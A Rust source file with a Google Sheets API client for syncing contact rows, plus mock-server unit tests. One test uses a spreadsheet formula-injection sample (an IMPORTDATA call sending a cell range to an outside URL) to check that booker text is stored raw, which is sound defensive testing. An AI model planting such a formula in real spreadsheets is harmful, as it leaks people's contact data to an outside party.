use super::models::{cell_range, column_range, row_range, CellInput, CellRef};
use crate::components::google_auth::AccessTokenSource;
use crate::error::{sheets_error, SyncResult};
use async_trait::async_trait;
use reqwest::{Client, RequestBuilder};
use serde_json::{json, Value};
use std::sync::Arc;
use tracing::debug;
use url::Url;

pub const GOOGLE_SHEETS_API: &str = "https://sheets.googleapis.com/v4/spreadsheets";

/// Tabular store the contact rows live in. Rows and columns are 1-based.
#[async_trait]
pub trait SheetStore: Send + Sync {
    /// Whether a sheet with this name exists
    async fn has_sheet(&self, sheet: &str) -> SyncResult<bool>;

    /// Displayed values of `column` from `first_row` to the last used row
    async fn read_column(&self, sheet: &str, column: u32, first_row: u32)
        -> SyncResult<Vec<String>>;

    /// Insert a blank row so that it becomes row `row`, shifting the rest down
    async fn insert_row_before(&self, sheet: &str, row: u32) -> SyncResult<()>;

    /// Write `values` into `row` starting at column 1
    async fn write_row(&self, sheet: &str, row: u32, values: &[CellInput]) -> SyncResult<()>;

    /// Store `value` verbatim
    async fn write_cell(&self, sheet: &str, cell: CellRef, value: &str) -> SyncResult<()>;

    async fn clear_cell(&self, sheet: &str, cell: CellRef) -> SyncResult<()>;
}

/// Google Sheets v4 REST client bound to one spreadsheet
pub struct GoogleSheetsClient {
    client: Client,
    base_url: String,
    spreadsheet_id: String,
    tokens: Arc<dyn AccessTokenSource>,
}

impl GoogleSheetsClient {
    pub fn new(spreadsheet_id: &str, tokens: Arc<dyn AccessTokenSource>) -> Self {
        Self::with_base_url(GOOGLE_SHEETS_API, spreadsheet_id, tokens)
    }

    /// Client against a different API root
    pub fn with_base_url(
        base_url: &str,
        spreadsheet_id: &str,
        tokens: Arc<dyn AccessTokenSource>,
    ) -> Self {
        Self {
            client: Client::new(),
            base_url: base_url.trim_end_matches('/').to_string(),
            spreadsheet_id: spreadsheet_id.to_string(),
            tokens,
        }
    }

    /// Spreadsheet URL with extra path segments appended
    fn url(&self, segments: &[&str]) -> SyncResult<Url> {
        let mut url = Url::parse(&self.base_url)
            .map_err(|e| sheets_error(&format!("Failed to parse URL: {}", e)))?;
        url.path_segments_mut()
            .map_err(|_| sheets_error("Sheets API URL cannot be a base"))?
            .pop_if_empty()
            .push(&self.spreadsheet_id)
            .extend(segments);
        Ok(url)
    }

    fn batch_update_url(&self) -> SyncResult<Url> {
        let mut url = Url::parse(&self.base_url)
            .map_err(|e| sheets_error(&format!("Failed to parse URL: {}", e)))?;
        url.path_segments_mut()
            .map_err(|_| sheets_error("Sheets API URL cannot be a base"))?
            .pop_if_empty()
            .push(&format!("{}:batchUpdate", self.spreadsheet_id));
        Ok(url)
    }

    async fn send(&self, request: RequestBuilder, action: &str) -> SyncResult<Value> {
        let access_token = self.tokens.access_token().await?;

        let response = request
            .bearer_auth(access_token)
            .send()
            .await
            .map_err(|e| sheets_error(&format!("Failed to {}: {}", action, e)))?;

        if !response.status().is_success() {
            let status = response.status();
            let error_body = response
                .text()
                .await
                .unwrap_or_else(|_| "Could not read error response".to_string());
            return Err(sheets_error(&format!(
                "Failed to {}: HTTP {} - {}",
                action, status, error_body
            )));
        }

        response
            .json()
            .await
            .map_err(|e| sheets_error(&format!("Failed to parse response to {}: {}", action, e)))
    }

    /// Numeric id of a sheet, needed by structural updates
    async fn sheet_id(&self, sheet: &str) -> SyncResult<Option<i64>> {
        let mut url = self.url(&[])?;
        url.query_pairs_mut()
            .append_pair("fields", "sheets.properties(sheetId,title)");

        let response = self
            .send(self.client.get(url), "read spreadsheet properties")
            .await?;

        let id = response
            .get("sheets")
            .and_then(|s| s.as_array())
            .into_iter()
            .flatten()
            .filter_map(|s| s.get("properties"))
            .find(|p| p.get("title").and_then(|t| t.as_str()) == Some(sheet))
            .and_then(|p| p.get("sheetId"))
            .and_then(|id| id.as_i64());

        Ok(id)
    }

    async fn put_values(&self, range: &str, values: Value, input: ValueInput) -> SyncResult<()> {
        let mut url = self.url(&["values", range])?;
        url.query_pairs_mut()
            .append_pair("valueInputOption", input.as_str());

        let body = json!({
            "range": range,
            "majorDimension": "ROWS",
            "values": values,
        });

        self.send(self.client.put(url).json(&body), "write values")
            .await?;
        debug!("Wrote values to {}", range);
        Ok(())
    }
}

#[async_trait]
impl SheetStore for GoogleSheetsClient {
    async fn has_sheet(&self, sheet: &str) -> SyncResult<bool> {
        Ok(self.sheet_id(sheet).await?.is_some())
    }

    async fn read_column(
        &self,
        sheet: &str,
        column: u32,
        first_row: u32,
    ) -> SyncResult<Vec<String>> {
        let range = column_range(sheet, column, first_row);
        let url = self.url(&["values", &range])?;

        let response = self.send(self.client.get(url), "read values").await?;

        let values = response
            .get("values")
            .and_then(|v| v.as_array())
            .map(|rows| rows.iter().map(first_cell).collect())
            .unwrap_or_default();

        Ok(values)
    }

    async fn insert_row_before(&self, sheet: &str, row: u32) -> SyncResult<()> {
        let sheet_id = self
            .sheet_id(sheet)
            .await?
            .ok_or_else(|| sheets_error(&format!("Sheet not found: {}", sheet)))?;

        let body = json!({
            "requests": [{
                "insertDimension": {
                    "range": {
                        "sheetId": sheet_id,
                        "dimension": "ROWS",
                        "startIndex": row - 1,
                        "endIndex": row,
                    },
                    "inheritFromBefore": false,
                }
            }]
        });

        let url = self.batch_update_url()?;
        self.send(self.client.post(url).json(&body), "insert row")
            .await?;
        debug!("Inserted row {} in {}", row, sheet);
        Ok(())
    }

    async fn write_row(&self, sheet: &str, row: u32, values: &[CellInput]) -> SyncResult<()> {
        let range = row_range(sheet, row, values.len() as u32);
        let texts: Vec<&str> = values.iter().map(CellInput::text).collect();
        self.put_values(&range, json!([texts]), ValueInput::Raw)
            .await?;

        for (index, value) in values.iter().enumerate() {
            if value.is_parsed() {
                let cell = CellRef::new(row, index as u32 + 1);
                self.put_values(
                    &cell_range(sheet, cell),
                    json!([[value.text()]]),
                    ValueInput::UserEntered,
                )
                .await?;
            }
        }
        Ok(())
    }

    async fn write_cell(&self, sheet: &str, cell: CellRef, value: &str) -> SyncResult<()> {
        let range = cell_range(sheet, cell);
        self.put_values(&range, json!([[value]]), ValueInput::Raw)
            .await
    }

    async fn clear_cell(&self, sheet: &str, cell: CellRef) -> SyncResult<()> {
        let range = cell_range(sheet, cell);
        let url = self.url(&["values", &format!("{}:clear", range)])?;
        self.send(self.client.post(url).json(&json!({})), "clear values")
            .await?;
        debug!("Cleared {}", range);
        Ok(())
    }
}

/// `valueInputOption` of a values write
#[derive(Debug, Clone, Copy)]
enum ValueInput {
    Raw,
    UserEntered,
}

impl ValueInput {
    fn as_str(self) -> &'static str {
        match self {
            ValueInput::Raw => "RAW",
            ValueInput::UserEntered => "USER_ENTERED",
        }
    }
}

/// First cell of a value row; blank rows come back as empty arrays
fn first_cell(row: &Value) -> String {
    match row.get(0) {
        Some(Value::String(s)) => s.clone(),
        Some(Value::Null) | None => String::new(),
        Some(other) => other.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::components::google_auth::StaticToken;
    use wiremock::matchers::{body_partial_json, method, path, query_param};
    use wiremock::{Mock, MockServer, ResponseTemplate};

    fn client(server: &MockServer) -> GoogleSheetsClient {
        GoogleSheetsClient::with_base_url(
            &server.uri(),
            "sheet-1",
            Arc::new(StaticToken("token-1".to_string())),
        )
    }

    async fn mount_properties(server: &MockServer) {
        Mock::given(method("GET"))
            .and(path("/sheet-1"))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!({
                "sheets": [
                    { "properties": { "sheetId": 0, "title": "Archive" } },
                    { "properties": { "sheetId": 42, "title": "Contacts" } }
                ]
            })))
            .mount(server)
            .await;
    }

    #[tokio::test]
    async fn test_read_column() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .and(path("/sheet-1/values/'Contacts'!A5:A"))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!({
                "range": "Contacts!A5:A20",
                "values": [["evt-1"], [], ["evt-2"]]
            })))
            .mount(&server)
            .await;

        let ids = client(&server).read_column("Contacts", 1, 5).await.unwrap();
        assert_eq!(ids, vec!["evt-1", "", "evt-2"]);
    }

    #[tokio::test]
    async fn test_read_column_empty_sheet() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!({
                "range": "Contacts!A5:A1000"
            })))
            .mount(&server)
            .await;

        let ids = client(&server).read_column("Contacts", 1, 5).await.unwrap();
        assert!(ids.is_empty());
    }

    #[tokio::test]
    async fn test_has_sheet() {
        let server = MockServer::start().await;
        mount_properties(&server).await;

        let sheets = client(&server);
        assert!(sheets.has_sheet("Contacts").await.unwrap());
        assert!(!sheets.has_sheet("Missing").await.unwrap());
    }

    #[tokio::test]
    async fn test_insert_row_before() {
        let server = MockServer::start().await;
        mount_properties(&server).await;
        Mock::given(method("POST"))
            .and(path("/sheet-1:batchUpdate"))
            .and(body_partial_json(json!({
                "requests": [{
                    "insertDimension": {
                        "range": { "sheetId": 42, "dimension": "ROWS", "startIndex": 4, "endIndex": 5 }
                    }
                }]
            })))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!({ "replies": [{}] })))
            .expect(1)
            .mount(&server)
            .await;

        client(&server)
            .insert_row_before("Contacts", 5)
            .await
            .unwrap();
    }

    #[tokio::test]
    async fn test_insert_row_missing_sheet() {
        let server = MockServer::start().await;
        mount_properties(&server).await;

        let err = client(&server)
            .insert_row_before("Missing", 5)
            .await
            .unwrap_err();
        assert!(err.to_string().contains("Sheet not found"));
    }

    #[tokio::test]
    async fn test_write_row_keeps_booker_text_raw() {
        let server = MockServer::start().await;
        let formula = "=IMPORTDATA(\"https://x/?\"&A5:I50)";
        Mock::given(method("PUT"))
            .and(path("/sheet-1/values/'Contacts'!A5:C5"))
            .and(query_param("valueInputOption", "RAW"))
            .and(body_partial_json(json!({
                "values": [["evt-1", "2026-10-20 16:30:00", formula]]
            })))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!({ "updatedCells": 3 })))
            .expect(1)
            .mount(&server)
            .await;
        Mock::given(method("PUT"))
            .and(path("/sheet-1/values/'Contacts'!B5"))
            .and(query_param("valueInputOption", "USER_ENTERED"))
            .and(body_partial_json(json!({ "values": [["2026-10-20 16:30:00"]] })))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!({ "updatedCells": 1 })))
            .expect(1)
            .mount(&server)
            .await;
        Mock::given(method("PUT"))
            .and(query_param("valueInputOption", "USER_ENTERED"))
            .and(body_partial_json(json!({ "values": [[formula]] })))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!({})))
            .expect(0)
            .mount(&server)
            .await;

        let values = vec![
            CellInput::Raw("evt-1".to_string()),
            CellInput::Parsed("2026-10-20 16:30:00".to_string()),
            CellInput::Raw(formula.to_string()),
        ];
        client(&server)
            .write_row("Contacts", 5, &values)
            .await
            .unwrap();
    }

    #[tokio::test]
    async fn test_write_cell_is_raw() {
        let server = MockServer::start().await;
        Mock::given(method("PUT"))
            .and(path("/sheet-1/values/'Contacts'!L7"))
            .and(query_param("valueInputOption", "RAW"))
            .and(body_partial_json(json!({ "values": [["=1+1"]] })))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!({ "updatedCells": 1 })))
            .expect(1)
            .mount(&server)
            .await;

        client(&server)
            .write_cell("Contacts", CellRef::new(7, 12), "=1+1")
            .await
            .unwrap();
    }

    #[tokio::test]
    async fn test_clear_cell() {
        let server = MockServer::start().await;
        Mock::given(method("POST"))
            .and(path("/sheet-1/values/'Contacts'!L7:clear"))
            .respond_with(ResponseTemplate::new(200).set_body_json(json!({})))
            .expect(1)
            .mount(&server)
            .await;

        client(&server)
            .clear_cell("Contacts", CellRef::new(7, 12))
            .await
            .unwrap();
    }

    #[tokio::test]
    async fn test_error_status() {
        let server = MockServer::start().await;
        Mock::given(method("PUT"))
            .respond_with(ResponseTemplate::new(500).set_body_string("backend error"))
            .mount(&server)
            .await;

        let err = client(&server)
            .write_cell("Contacts", CellRef::new(5, 12), "x")
            .await
            .unwrap_err();
        assert!(err.to_string().contains("500"));
    }
}
